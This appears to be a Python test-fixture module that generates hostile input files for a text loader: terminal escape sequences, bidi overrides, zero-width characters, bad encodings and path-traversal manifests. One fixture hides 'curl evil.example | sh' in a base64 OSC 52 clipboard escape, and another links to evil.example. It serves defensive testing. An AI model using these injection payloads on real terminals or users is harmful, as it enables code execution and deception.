"""The hostile inputs, in one place: what each fixture file holds and how big cases are built.

`tests/fixtures/hostile/` holds the small files, written by `write_fixture()` from the
strings below (a test checks they have not drifted). Big or odd cases (50 MB on one line,
100,000 tiny files, symlink loops, vanishing or unreadable files) are built in `tmp_path`
at test time by the functions here, so the repository stays small.
"""

from __future__ import annotations

import base64
import re
import shutil
from pathlib import Path

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"

# Everything that must never reach a terminal raw: C0 controls but \n and \t, DEL, C1
# controls, bidi embeddings/overrides/isolates, lone surrogates.
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
# Invisible characters that should not reach a plain-text terminal either (zero-width
# space/joiners, bidi marks, word joiner, BOM, line/paragraph separators).
INVISIBLE = re.compile("[\u200b-\u200f\u061c\u2028\u2029\u2060\ufeff]")

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
ESCAPES = {
    "csi_clear": "\x1b[2J\x1b[H",
    "csi_colour": "\x1b[31;1;5m",
    "osc52_clipboard": CLIPBOARD,
    "osc8_link": "\x1b]8;;https://evil.example/\x1b\\اضغط هنا\x1b]8;;\x1b\\",
    "osc_title": "\x1b]0;pwned\x07",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1_csi": "\u009b2J",
    "c1_osc": "\u009d52;c;QUFB\u009c",
    "c0_misc": "\x07\x08\x0b\x0c\x7f",
}
BIDI = {
    "lre": "\u202a", "rle": "\u202b", "pdf": "\u202c", "lro": "\u202d", "rlo": "\u202e",
    "lri": "\u2066", "rli": "\u2067", "fsi": "\u2068", "pdi": "\u2069",
    "marks": "\u200e\u200f\u061c",
}
ZERO_WIDTH = {
    "zwsp": "\u200b", "zwnj": "\u200c", "zwj": "\u200d", "word_joiner": "\u2060",
    "bom_inside": "\ufeff", "line_sep": "\u2028", "para_sep": "\u2029", "soft_hyphen": "\u00ad",
}

LONG_WORD_LENGTH = 100_000


def _escapes_article() -> str:
    # The first line becomes the title, so the escapes reach the `sources` listing too.
    lines = [f"قمة ألاسكا {ESCAPES['csi_clear']}عنوان{ESCAPES['osc_title']} خبيث"]
    for name, seq in ESCAPES.items():
        lines.append(f"قال الرئيس الروسي فلاديمير بوتين: «نأمل {seq}بالسلام في {name}». "
                     f"وأضاف ترامب أن اللقاء كان مثمرا{seq}.")
    lines.append(f'وقال ترامب: "لم نتوصل {CLIPBOARD} إلى اتفاق بعد". واستمر الاجتماع 3 ساعات.')
    return "\n".join(lines) + "\n"


def _bidi_article() -> str:
    lines = ["قمة ألاسكا \u202eعنوان مقلوب\u202c والمحادثات"]
    for name, seq in BIDI.items():
        lines.append(f"أكد بوتين: «{seq}تم الاتفاق{BIDI['pdf']} على {name}». وأضاف "
                     f"ترامب أن الملف \u2066/usr/bin/x\u2069 موجود{seq}.")
    # Trojan-source style: an override that makes the reader see a different order.
    lines.append("قال ترامب: \u201c\u202eلا اتفاق حتى يتفق على كل شيء\u202c\u201d. "
                 "واستمر الاجتماع ساعتين.")
    return "\n".join(lines) + "\n"


def _zero_width_article() -> str:
    lines = ["قمة\u200b ألاسكا\u2060 والمحادثات\ufeff"]
    for name, seq in ZERO_WIDTH.items():
        lines.append(f"قال بوتين: «نأمل{seq} بال{seq}سلام في {name}». "
                     "وأضاف ترامب أن اللقاء كان مثمرا.")
    lines += [
        "ب\u200dب لا سلام ولا إله إلا الله، قال ترامب: «لا\u200d اتفاق».",
        "می\u200cخواهم گچ پژوهش. مرحبا 😀 بك (x) 👨\u200d👩\u200d👧.",
        "قال لافروف: «" + "ب" + "\u0651" * 60 + " كلمة مزخرفة». وانتهى اللقاء.",
        "\U000e0041\U000e0042 وسوم مخفية \U000e007f وكلمة\ufffe\uffff خاصة \ue000.",
    ]
    return "\n".join(lines) + "\n"


def _nul_article() -> bytes:
    text = ("قال بوتين: «نأمل بالسلام». وأضاف ترامب أن اللقاء كان مثمرا وأن الاجتماع استمر "
            "ثلاث ساعات في قاعدة إلمندورف. ") * 4
    data = text.encode("utf-8")
    # Three NULs (not enough to look binary) and an encoded lone surrogate (CESU-8 style),
    # which is not valid UTF-8 and must come back as U+FFFD.
    cut = len(data) // 2
    cut = data.index(b" ", cut)
    return (b"NUL\x00 " + data[:cut] + b" \x00\x00 \xed\xa0\x80 " + data[cut:] + b"\n")


def fixture_files() -> dict[str, bytes]:
    return {
        "escapes.txt": _escapes_article().encode("utf-8"),
        "bidi.txt": _bidi_article().encode("utf-8"),
        "zero_width.txt": _zero_width_article().encode("utf-8"),
        "nul_and_surrogate.txt": _nul_article(),
        "crlf_and_cr.md": "عنوان\r\nقال بوتين: «نأمل».\rوأضاف ترامب أن اللقاء مثمر.\r\n".encode(),
        "empty.txt": b"",
        "binary.txt": bytes(range(256)) * 8,
        "koi8r.txt": ("Президент России Владимир Путин заявил, что встреча была полезной. " * 8
                      ).encode("koi8-r"),
        "latin1.txt": ("Le président a déclaré que la réunion était très utile. " * 8
                       ).encode("latin-1"),
        "utf32.txt": ("قال بوتين إن اللقاء كان مثمرا. " * 4).encode("utf-32"),
        # Manifests whose paths leave their folder (sub-folders are not articles).
        "manifest_outside/sources.toml":
            b'version = 1\n[[source]]\nid = "x"\nfile = "../escapes.txt"\n',
        "manifest_absolute/sources.toml":
            b'version = 1\n[[source]]\nid = "x"\nfile = "/etc/hostname"\n',
    }


# Files that must load (with their text readable) and files that must be refused or skipped.
LOADS = ("escapes.txt", "bidi.txt", "zero_width.txt", "nul_and_surrogate.txt", "crlf_and_cr.md",
         "utf32.txt")
REFUSED = ("binary.txt", "koi8r.txt", "latin1.txt")
SKIPPED = ("empty.txt",)


def write_fixture(folder: Path = FIXTURE) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in fixture_files().items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(data)


def long_word(length: int = LONG_WORD_LENGTH) -> str:
    return "ا" + "لب" * (length // 2 - 1) + "ت"


def hostile_folder(tmp_path: Path, *, with_long_word: bool = True) -> Path:
    """A copy of the fixture folder, plus the cases too big or odd to commit."""
    folder = tmp_path / "hostile"
    shutil.copytree(FIXTURE, folder)
    if with_long_word:
        (folder / "long_word.txt").write_text(
            f"قال بوتين: «{long_word()}». وأضاف ترامب أن اللقاء كان مثمرا.\n", encoding="utf-8")
    return folder


if __name__ == "__main__":
    write_fixture()
